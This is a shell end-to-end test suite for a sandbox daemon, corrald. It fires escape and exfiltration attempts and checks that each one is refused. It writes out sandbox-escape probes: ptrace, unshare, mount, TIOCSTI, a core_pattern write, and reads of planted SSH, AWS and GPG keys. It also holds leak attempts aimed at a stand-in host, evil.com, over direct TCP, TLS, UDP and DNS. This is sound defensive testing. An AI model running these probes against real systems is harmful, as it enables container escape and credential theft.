#!/bin/sh
# Attacks on a sandbox tried from inside real sandboxes, and against them
# from the host (ARCHITECTURE.md, "A sandbox's life" and "A connection's
# life").
# Sets up: the test bed; corrald in the test host; a workspace owned by
# uid 1000; a read-only root holding a tmpfs and a bind submount (mounted
# on the host before create, removed at the end); sandbox ta (strict) on
# both, sandbox tb (strict plus example.com) on the workspace.
# Does: from inside ta, the forbidden system calls, /proc of corral-init
# and of the broker, /proc/sys, mounts, writes into the submounts, prlimit
# and signals against pid 1, TIOCSTI, setuid, leaked descriptors, the
# control socket, direct TCP and UDP, DNS to an outside resolver, tb's
# gateway and address; from the host, a local user at ta's proxy port and
# address.
# Expects: each attack fails (refusals in the network at once), nothing
# reaches the fake internet or the host, and the sandbox keeps answering.
. "$top_srcdir/tests/lib/tap.sh"
. "$top_srcdir/tests/e2e/lib/testbed.sh"
. "$top_srcdir/tests/e2e/lib/corral.sh"
tb_need_root

FAST_REFUSAL_S=1        # "refused at once": well under a connect timeout
AGENT_UID=65534         # a local user of the host with no business there

# Host mounts made for the submount case must go before the bed's folder.
bg_pids=
threats_down() {
	for p in $bg_pids; do kill "$p" 2>/dev/null; done
	[ -n "${roroot:-}" ] && umount "$roroot/tmpsub" "$roroot/bindsub" 2>/dev/null
	tb_down
}
trap '_rc=$?; threats_down; exit $_rc' EXIT
trap 'threats_down; trap - EXIT; exit 130' INT
trap 'threats_down; trap - EXIT; exit 143' TERM
tb_up || { echo "Bail out! no test bed"; exit 1; }

port=$(tb_free_port)
ws="$TB_DIR/folders/app"
roroot="$TB_DIR/folders/ro"
mkdir -p "$ws" "$roroot/tmpsub" "$roroot/bindsub" "$TB_DIR/folders/bindsrc"
cp "$(tb_ca_file)" "$ws/ca.pem"
chown -R 1000:1000 "$TB_DIR/folders"
chmod 0755 "$TB_DIR" "$TB_DIR/folders"
mount -t tmpfs -o size=64k,mode=0777 corral-test "$roroot/tmpsub" &&
	mount --bind "$TB_DIR/folders/bindsrc" "$roroot/bindsub" ||
	{ echo "Bail out! cannot make the submounts"; exit 1; }
echo tmp-marker >"$roroot/tmpsub/marker"
echo bind-marker >"$roroot/bindsub/marker"
chmod 0666 "$roroot/tmpsub/marker" "$roroot/bindsub/marker"

# probe.py ATTACK [ARGS]: tries one system-level attack from inside and
# prints "refused:ERRNO" when the kernel said no, "allowed" when it did it.
cat >"$ws/probe.py" <<'PY'
import ctypes, errno, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
PTRACE_ATTACH, RLIMIT_NOFILE, TIOCSTI, TIOCLINUX = 16, 7, 0x5412, 0x541C

class Rlimit(ctypes.Structure):
    _fields_ = [("cur", ctypes.c_ulong), ("max", ctypes.c_ulong)]

class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

def sys_result(r):
    if r == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

def vm_read(pid):
    buf = ctypes.create_string_buffer(8)
    local, remote = Iovec(ctypes.addressof(buf), 8), Iovec(0x400000, 8)
    sys_result(libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))

def prlimit(pid):
    lim = Rlimit(1, 1)
    sys_result(libc.prlimit(pid, RLIMIT_NOFILE, ctypes.byref(lim), None))

def ioctl_char(req):
    c = ctypes.c_char(b"x")
    sys_result(libc.ioctl(0, ctypes.c_ulong(req), ctypes.byref(c)))

def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect((host, port))
    s.send(b"corral-udp-leak")
    s.recv(100)

def tcp_read(host, port):
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(b"corral-tcp-leak\r\n")
    data = s.recv(100)
    if not data:
        raise OSError(errno.ECONNRESET, "closed without a byte")
    print("read:" + data.decode(errors="replace").strip())

ATTACKS = {
    "unshare-user": lambda: sys_result(libc.unshare(CLONE_NEWUSER)),
    "unshare-mount": lambda: sys_result(libc.unshare(CLONE_NEWNS)),
    "mount": lambda t: sys_result(libc.mount(b"x", t.encode(), b"tmpfs", 0, None)),
    "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0),
    "ptrace": lambda pid: sys_result(libc.ptrace(PTRACE_ATTACH, int(pid), None, None)),
    "vm-read": lambda pid: vm_read(int(pid)),
    "read": lambda path: open(path, "rb").read(),
    "listdir": lambda path: os.listdir(path),
    "write": lambda path: open(path, "w").write("corral-was-here\n"),
    "prlimit": lambda pid: prlimit(int(pid)),
    "setpriority": lambda pid: sys_result(libc.setpriority(0, int(pid), 19)),
    "setaffinity": lambda pid: os.sched_setaffinity(int(pid), {0}),
    "tiocsti": lambda: ioctl_char(TIOCSTI),
    "tiocsti-high": lambda: ioctl_char(0x100000000 | TIOCSTI),
    "tioclinux": lambda: ioctl_char(TIOCLINUX),
    "udp": lambda host, port: udp(host, int(port)),
    "tcp-read": lambda host, port: tcp_read(host, int(port)),
    "connect-unix": lambda path: socket.socket(socket.AF_UNIX).connect(path),
}

start = time.monotonic()
try:
    ATTACKS[sys.argv[1]](*sys.argv[2:])
    print("allowed")
except OSError as e:
    print("refused:" + (errno.errorcode.get(e.errno, str(e.errno)) if e.errno else str(e)))
if os.environ.get("PROBE_TIME"):
    print("elapsed:%.3f" % (time.monotonic() - start))
PY
chmod 0644 "$ws/probe.py"

corral_config "$TB_DIR/corrald.yaml" <<YAML
host_proxy:
  listen: 127.0.0.1:$port
YAML
corral_start corrald "$TB_DIR/corrald.yaml" "$port"
sock="$TB_DIR/corrald.sock"
corral() { tb_exec_host "$top_builddir/corral" --socket "$sock" "$@"; }
inside() { corral exec ta -- "$@"; }
probe() { corral exec ta -- python3 "$ws/probe.py" "$@" 2>&1; }
# check_refused NAME OUTPUT: the probe said the kernel refused it.
check_refused() { check_contains "$1" "$2" "refused:"; }
gateway_of() {
	corral sandbox get "$1" --json |
		python3 -c "import json,sys; print(json.load(sys.stdin)['network']['gateway'])"
}
# elapsed_under LIMIT_S OUTPUT: the probe's elapsed: line is under LIMIT_S.
elapsed_under() {
	echo "$2" | awk -v lim="$1" -F: '$1 == "elapsed" { e = $2 } END { exit !(e != "" && e < lim) }'
}

# Keys a root holds below its top: a home's backup two levels down, and
# cloud credentials four levels down; a note beside them stays readable.
mkdir -p "$ws/old/home2/.gnupg/private-keys-v1.d" "$ws/a/b/c/.aws" "$ws/.ssh"
echo gpg-secret >"$ws/old/home2/.gnupg/private-keys-v1.d/A.key"
echo aws-secret >"$ws/a/b/c/.aws/credentials"
echo ssh-secret >"$ws/.ssh/id_ed25519"
echo a-note >"$ws/old/home2/notes.txt"
chown -R 1000:1000 "$ws/old" "$ws/a" "$ws/.ssh"

corral sandbox create --root "$ws" --root "$roroot:ro" --name ta >/dev/null ||
	{ echo "Bail out! cannot create sandbox ta"; exit 1; }
corral sandbox create --root "$ws" --name tb >/dev/null ||
	{ echo "Bail out! cannot create sandbox tb"; exit 1; }
corral policy update tb --add-endpoint example.com:443 >/dev/null
gwa=$(gateway_of ta)
gwb=$(gateway_of tb)
addr_b=$(echo "$gwb" | awk -F. '{ printf "%s.%s.%s.%d", $1, $2, $3, $4 + 1 }')

# --- Credential folders inside a root are masked, at its top and below.
for f in .ssh/id_ed25519 old/home2/.gnupg/private-keys-v1.d/A.key a/b/c/.aws/credentials; do
	out=$(inside cat "$ws/$f" 2>&1)
	check_lacks "$f is masked inside" "$out" "secret"
	check_contains "as an empty folder: the file is not there" "$out" "No such file"
done
check_eq "the host's network namespace folders are not shown" "" \
	"$(inside sh -c 'ls -A /etc/netns 2>/dev/null')"
check_eq "a file beside a masked folder is readable" a-note "$(inside cat "$ws/old/home2/notes.txt")"
check_eq "and the host's copy is untouched" gpg-secret \
	"$(cat "$ws/old/home2/.gnupg/private-keys-v1.d/A.key")"

# --- Nested namespaces and the mount family.
inside unshare -U true >/dev/null 2>&1
rc=$?
[ "$rc" -ne 0 ] && [ "$rc" -ne 127 ]; tap_result $? "unshare -U true fails inside (exit $rc)"
check_refused "unshare(CLONE_NEWUSER) is refused" "$(probe unshare-user)"
check_refused "unshare(CLONE_NEWNS) is refused" "$(probe unshare-mount)"
inside sh -c 'mkdir -p /tmp/x && mount -t tmpfs x /tmp/x' >/dev/null 2>&1
rc=$?
[ "$rc" -ne 0 ] && [ "$rc" -ne 127 ]; tap_result $? "mount -t tmpfs x /tmp/x fails inside (exit $rc)"
before=$(grep -c " $ws/mnt " /proc/self/mountinfo)
inside mkdir -p "$ws/mnt"
check_refused "mount(2) at a root's own path is refused" "$(probe mount "$ws/mnt")"
after=$(grep -c " $ws/mnt " /proc/self/mountinfo)
check_eq "no mount made inside shows in the host's mountinfo" "0 0" "$before $after"

# --- Raw and packet sockets.
check_refused "a raw ICMP socket is refused" "$(probe raw)"
check_refused "an AF_PACKET socket is refused" "$(probe packet)"

# --- ptrace and process_vm of another process and of corral-init.
corral exec ta -- sleep 60 >/dev/null 2>&1 &
bg_pids="$bg_pids $!"
victim=
for _ in 1 2 3 4 5 6 7 8 9 10; do
	victim=$(inside sh -c 'for p in /proc/[0-9]*; do
		[ "$(cat $p/comm 2>/dev/null)" = sleep ] && echo ${p#/proc/}; done' | head -1)
	[ -n "$victim" ] && break
	sleep 0.2
done
[ -n "$victim" ]; tap_result $? "another exec's sleep is visible (pid $victim), so ptrace has a target"
check_refused "ptrace attach to another exec's process is refused" "$(probe ptrace "${victim:-0}")"
check_refused "ptrace attach to corral-init is refused" "$(probe ptrace 1)"
out=$(inside strace -p "${victim:-1}" -o /dev/null 2>&1)
rc=$?
[ "$rc" -ne 0 ] && [ "$rc" -ne 127 ]; tap_result $? "strace -p of another process fails (exit $rc)" "$out"
check_refused "process_vm_readv of corral-init is refused" "$(probe vm-read 1)"

# --- /proc: the sandbox's own processes only; corral-init out of reach.
procs=$(inside sh -c 'for p in /proc/[0-9]*; do cat $p/comm; done' 2>/dev/null)
check_lacks "no corrald among the processes visible inside" "$procs" corrald
n=$(echo "$procs" | grep -c .)
[ "$n" -gt 0 ] && [ "$n" -lt 10 ]
tap_result $? "/proc lists only the sandbox's few processes ($n)" "$procs"
out=$(inside cat /proc/1/cmdline | tr '\0' ' ')
check_eq "pid 1 inside is corral-init" "corral-init " "$out"
check_refused "corral-init's environment is unreadable" "$(probe read /proc/1/environ)"
check_refused "corral-init's memory is unreadable" "$(probe read /proc/1/mem)"
check_refused "corral-init's open files are unlisted" "$(probe listdir /proc/1/fd)"
# corrald's own pid, as the host numbers it, is nobody's there (or not corrald).
cpid=$(tb_pid corrald)
out=$(inside cat "/proc/$cpid/cmdline" 2>/dev/null | tr '\0' ' ')
check_lacks "the broker's host pid ($cpid) shows no corrald inside" "$out" corrald

# --- /proc/sys and root inside.
pattern=$(cat /proc/sys/kernel/core_pattern)
check_refused "writing /proc/sys/kernel/core_pattern is refused" \
	"$(probe write /proc/sys/kernel/core_pattern)"
check_eq "the host's core_pattern is unchanged" "$pattern" "$(cat /proc/sys/kernel/core_pattern)"
status=$(inside cat /proc/self/status)
check "every capability set is zero, NoNewPrivs 1, Seccomp 2" python3 -c "
import sys
f = dict(l.split(':', 1) for l in sys.argv[1].splitlines() if ':' in l)
f = {k: v.strip() for k, v in f.items()}
for c in ('CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb'):
    assert int(f[c], 16) == 0, (c, f[c])
assert f['NoNewPrivs'] == '1' and f['Seccomp'] == '2', f
" "$status"
out=$(inside sh -c 'su root -c "id -u" </dev/null 2>/dev/null; setpriv --reuid 0 id -u 2>/dev/null; id -u')
check_eq "su and setpriv give no root: only the caller's uid is printed" 1000 "$out"

# --- Writable submounts under a read-only root.
out=$(inside cat "$roroot/tmpsub/marker" "$roroot/bindsub/marker" 2>&1)
check_eq "the read-only root's submounts are there inside" "tmp-marker
bind-marker" "$out"
check_refused "a new file in the read-only root's tmpfs submount is refused" \
	"$(probe write "$roroot/tmpsub/new.txt")"
check_refused "a new file in the read-only root's bind submount is refused" \
	"$(probe write "$roroot/bindsub/new.txt")"
check_refused "overwriting a file in the submount is refused" \
	"$(probe write "$roroot/bindsub/marker")"
[ ! -e "$roroot/tmpsub/new.txt" ] && [ ! -e "$roroot/bindsub/new.txt" ] &&
	[ "$(cat "$roroot/bindsub/marker")" = bind-marker ]
tap_result $? "no host file appeared or changed in the submounts"

# --- Disturbing corral-init.
check_refused "prlimit(2) on pid 1 is refused" "$(probe prlimit 1)"
inside prlimit --pid 1 --nofile=1:1 >/dev/null 2>&1
rc=$?
[ "$rc" -ne 0 ] && [ "$rc" -ne 127 ]; tap_result $? "prlimit --pid 1 --nofile=1:1 fails (exit $rc)"
check_refused "setpriority on pid 1 is refused" "$(probe setpriority 1)"
check_refused "sched_setaffinity on pid 1 is refused" "$(probe setaffinity 1)"
inside kill -STOP 1 >/dev/null 2>&1
rc=$?
out=$(inside echo alive 2>&1)
[ "$rc" -ne 0 ] && [ "$out" = alive ]
tap_result $? "kill -STOP 1 fails (exit $rc) and the sandbox still answers" "$out"
inside kill -9 1 >/dev/null 2>&1
rc=$?
out=$(inside echo alive 2>&1)
[ "$rc" -ne 0 ] && [ "$out" = alive ]
tap_result $? "kill -9 1 fails (exit $rc) and the sandbox still answers" "$out"

# --- Terminals, descriptors, the control socket.
for ioc in tiocsti tiocsti-high tioclinux; do
	out=$(corral exec ta --tty -- python3 "$ws/probe.py" "$ioc" </dev/null 2>&1 | tr -d '\r')
	check_refused "$ioc on the exec's own terminal is refused" "$out"
done
out=$(inside sh -c 'ls -1 /proc/$$/fd' | tr '\n' ' ')
check_eq "a workload's /proc/self/fd holds only 0, 1, 2" "0 1 2 " "$out"
out=$(corral exec ta --tty -- sh -c 'ls -1 /proc/$$/fd' </dev/null | tr -d '\r' | tr '\n' ' ')
check_eq "... also with a terminal" "0 1 2 " "$out"
inside test -e "$sock"
[ $? -eq 1 ]; tap_result $? "corrald's control socket path is not visible inside"
check_refused "connect() to the control socket's path fails" "$(probe connect-unix "$sock")"
out=$(inside find /run /tmp /dev -type s 2>/dev/null)
check_eq "no Unix socket file is visible in /run, /tmp or /dev" "" "$out"

# --- The network: around the proxy.
lines=$(wc -l <"$(tb_http_log)")
out=$(inside env PROBE_TIME=1 python3 "$ws/probe.py" tcp-read 198.18.2.1 443 2>&1)
check_refused "direct TCP to evil.com's address (no proxy) gets nothing back" "$out"
elapsed_under "$FAST_REFUSAL_S" "$out"
tap_result $? "... and is refused in under ${FAST_REFUSAL_S} s" "$out"
code=$(inside curl -sS --noproxy '*' --max-time 5 --cacert "$ws/ca.pem" \
	--resolve evil.com:443:198.18.2.1 -o /dev/null -w '%{http_code}' https://evil.com/ 2>/dev/null)
check_eq "direct TLS to evil.com with its own SNI fails (000)" 000 "$code"
out=$(inside env PROBE_TIME=1 python3 "$ws/probe.py" tcp-read 198.18.1.3 7 2>&1)
check_refused "direct TCP to another port (echo :7) gets nothing back" "$out"
code=$(inside curl -sS --noproxy '*' --max-time 5 --cacert "$ws/ca.pem" \
	--resolve github.com:443:198.18.2.1 -o /dev/null -w '%{http_code}' https://github.com/ 2>/dev/null)
new=$(tail -n +"$((lines + 1))" "$(tb_http_log)")
check_lacks "nothing reached evil.com's address (SNI github.com sent there included; code $code)" \
	"$new" "198.18.2.1:"
out=$(corral denials ta --since 1m --json)
check_contains "the direct connection to evil.com is in ta's denials" "$out" '"host":"evil.com","port":443'

out=$(inside env PROBE_TIME=1 python3 "$ws/probe.py" udp 198.18.1.1 9 2>&1)
check_refused "UDP to the fake internet's sink is refused" "$out"
elapsed_under "$FAST_REFUSAL_S" "$out"
tap_result $? "... at once (under ${FAST_REFUSAL_S} s, not a timeout)" "$out"
inside python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in (9, 53, 443):
    try: s.sendto(b"corral-udp-leak", ("198.18.1.1", port))
    except OSError: pass' >/dev/null 2>&1
sleep 0.5
check_eq "no datagram reached the bed's UDP sink" 0 "$(wc -c <"$(tb_udp_log)")"

# --- DNS.
dns_lines=$(tb_dns_log_lines)
out=$(inside dig +time=2 +tries=1 "@$gwa" evil.com 2>&1)
check_contains "dig @gateway evil.com is NXDOMAIN" "$out" "status: NXDOMAIN"
out=$(inside dig +short +time=2 +tries=1 @198.18.0.53 github.com 2>&1)
check_eq "dig @198.18.0.53 (an outside resolver) github.com is answered by the stub" 198.18.1.1 "$out"
out=$(inside dig +time=2 +tries=1 @198.18.0.53 secret.evil.com TXT 2>&1)
check_contains "dig @198.18.0.53 secret.evil.com TXT is NXDOMAIN" "$out" "status: NXDOMAIN"
inside dig +tcp +time=2 +tries=1 @198.18.0.53 tcpleak.evil.com >/dev/null 2>&1
for n in evil.com secret.evil.com tcpleak.evil.com; do
	! tb_dns_queried "$n" "$dns_lines"
	tap_result $? "$n never reached the bed's DNS server"
done

# --- Another sandbox's gateway and address.
code=$(corral exec tb -- curl -sS --max-time 5 --cacert "$ws/ca.pem" -o /dev/null \
	-w '%{http_code}' https://example.com/ 2>/dev/null)
check_eq "tb's own policy lets it reach example.com (200)" 200 "$code"
lines=$(wc -l <"$(tb_http_log)")
code=$(inside curl -sS --max-time 5 --cacert "$ws/ca.pem" -x "http://$gwb:3128" \
	-o /dev/null -w '%{http_code}' https://example.com/ 2>/dev/null)
check_eq "ta through tb's gateway :3128 to example.com is refused (ta's policy)" 000 "$code"
code=$(inside curl -sS --noproxy '*' --max-time 5 --cacert "$ws/ca.pem" \
	--resolve "example.com:1002:$gwb" -o /dev/null -w '%{http_code}' https://example.com:1002/ 2>/dev/null)
check_eq "ta to tb's gateway :1002 (its transparent listener) is refused" 000 "$code"
check_eq "no request of ta reached example.com" "" \
	"$(tail -n +"$((lines + 1))" "$(tb_http_log)" | grep 'example.com')"
out=$(corral denials ta --since 1m --json)
check_contains "ta's denials record the attempt through tb's gateway" "$out" '"port":3128'
out=$(corral denials tb --since 1m --json)
check_lacks "tb's denials do not" "$out" '"port":3128'

corral exec tb -- python3 -c '
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 8000)); s.listen()
while True:
    c, _ = s.accept(); c.sendall(b"tb-listener\n"); c.close()' >/dev/null 2>&1 &
bg_pids="$bg_pids $!"
corral exec ta -- python3 -c '
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 8000)); s.listen()
while True:
    c, _ = s.accept(); c.sendall(b"ta-listener\n"); c.close()' >/dev/null 2>&1 &
bg_pids="$bg_pids $!"
sleep 0.5
out=$(corral exec tb -- python3 "$ws/probe.py" tcp-read 127.0.0.1 8000 2>&1)
check_contains "tb's listener answers inside tb" "$out" "read:tb-listener"
out=$(probe tcp-read "$addr_b" 8000)
check_refused "ta cannot reach tb's listener at tb's address $addr_b" "$out"

# --- Getting in from the host.
host_agent() {
	tb_exec_host setpriv --reuid="$AGENT_UID" --regid="$AGENT_UID" --clear-groups "$@"
}
code=$(inside curl -sS --max-time 5 --cacert "$ws/ca.pem" -o /dev/null \
	-w '%{http_code}' https://api.github.com/zen 2>/dev/null)
check_eq "ta itself reaches api.github.com through its proxy (200)" 200 "$code"
code=$(host_agent curl -sS --max-time 5 --cacert "$ws/ca.pem" -x "http://$gwa:3128" \
	-o /dev/null -w '%{http_code}' https://api.github.com/zen 2>/dev/null)
check_eq "a host user cannot use ta's proxy port (000)" 000 "$code"
out=$(probe tcp-read 127.0.0.1 8000)
check_contains "ta's listener answers inside ta" "$out" "read:ta-listener"
out=$(host_agent /usr/bin/python3 "$ws/probe.py" tcp-read "$(echo "$gwa" |
	awk -F. '{ printf "%s.%s.%s.%d", $1, $2, $3, $4 + 1 }')" 8000 2>&1)
check_refused "a host user cannot connect to ta's address" "$out"

# --- A noisy neighbour: a local user binds the gateway ports of the next
# sandboxes first (IP_FREEBIND needs no privilege). The proxy listens
# below 1024, where it cannot; what it took at :3128 the fence never sends
# anything to.
squat_out="$TB_DIR/squat.out"
tb_exec_host setpriv --reuid=1000 --regid=1000 --clear-groups /usr/bin/python3 -c "
import socket, sys, time
held, refused = [], 0
for n in range(64):
    for port in (3128, 1001, 1002):
        s = socket.socket()
        s.setsockopt(socket.SOL_IP, 15, 1)   # IP_FREEBIND
        try:
            s.bind(('10.231.%d.%d' % (n * 4 // 256, n * 4 % 256 + 1), port))
            s.listen(8)
            held.append(s)
        except OSError:
            refused += 1
print(len(held), refused, flush=True)
time.sleep(30)" >"$squat_out" 2>&1 &
squatter=$!
for _ in $(seq 1 50); do [ -s "$squat_out" ] && break; sleep 0.1; done
check_eq "a local user binds :3128 of 64 gateways, and not :1001 nor :1002" "64 128" \
	"$(cat "$squat_out")"
corral sandbox create --root "$ws" --name tsq >/dev/null 2>&1
check_eq "a sandbox is made all the same" 0 $?
code=$(corral exec tsq -- curl -sS --max-time 5 --cacert "$ws/ca.pem" -o /dev/null \
	-w '%{http_code}' https://api.github.com/zen 2>/dev/null)
check_eq "and its proxy answers on its gateway's :3128 (200)" 200 "$code"
kill "$squatter" 2>/dev/null
wait "$squatter" 2>/dev/null
corral sandbox delete tsq >/dev/null 2>&1

# --- The broker's parsers run without root (ARCHITECTURE.md, "Privileges").
lpid=$(tb_exec_host ss -Hltnp "sport = :1001" | sed -n 's/.*pid=\([0-9]*\).*/\1/p' | head -1)
status_of() { awk -v k="$2:" '$1 == k { print $2 }' "/proc/${1:-0}/status" 2>/dev/null; }
luid=$(awk '/^Uid:/ { print $2 $3 $4 $5 }' "/proc/${lpid:-0}/status" 2>/dev/null)
check_eq "the process holding the proxy's listeners runs as corral (every uid)" \
	"$(id -u corral)$(id -u corral)$(id -u corral)$(id -u corral)" "$luid"
check_eq "the broker keeps CAP_SYS_PTRACE only (effective)" 0000000000080000 \
	"$(status_of "$lpid" CapEff)"
check_eq "the broker's bounding set holds CAP_SYS_PTRACE only" 0000000000080000 \
	"$(status_of "$lpid" CapBnd)"
check_eq "the broker has no_new_privs" 1 "$(status_of "$lpid" NoNewPrivs)"
check_eq "the broker runs under a seccomp filter" 2 "$(status_of "$lpid" Seccomp)"
mpid=$(pgrep -P "${lpid:-0}" -x corrald-monitor | head -1)
check_eq "its monitor is a root process of its own" 0 "$(status_of "$mpid" Uid)"
check_eq "the monitor holds no listener of the proxy" "" \
	"$(tb_exec_host ss -Hltnp "sport = :1001" | grep "pid=${mpid:-0}," || true)"

tap_done
